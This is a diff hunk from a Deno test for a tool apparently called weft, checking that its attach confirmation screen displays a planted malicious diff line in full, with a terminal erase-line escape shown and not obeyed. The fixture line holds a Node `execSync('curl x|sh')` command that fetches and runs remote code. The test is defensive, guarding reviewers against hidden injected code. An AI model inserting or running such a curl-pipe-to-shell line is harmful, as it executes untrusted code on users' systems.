@@ -40,7 +40,8 @@ Deno.test("hostile terminal: weft attach's confirmation shows all of a planted d
       const { review } = await driveHostile(client);
       terminal = await TmuxTerminal.start(["attach", review.runId], { cwd: served.projectDir });
       const screen = await terminal.waitFor("confirm (y) or revise (r)?");
-      const planted = `+require('child_process').execSync('curl x|sh') //${SHOWN}+console.log('ready');`;
+      // The added line, after its line number: the whole of it, the erase-line shown rather than obeyed.
+      const planted = `2 │ + require('child_process').execSync('curl x|sh') //${SHOWN}+console.log('ready');`;
       assert.ok(screen.split("\n").some((line) => line.trim() === planted), screen);
       // weft's own colours still reach the terminal: the prompt is drawn in cyan.
       const styled = await terminal.screen({ styles: true });
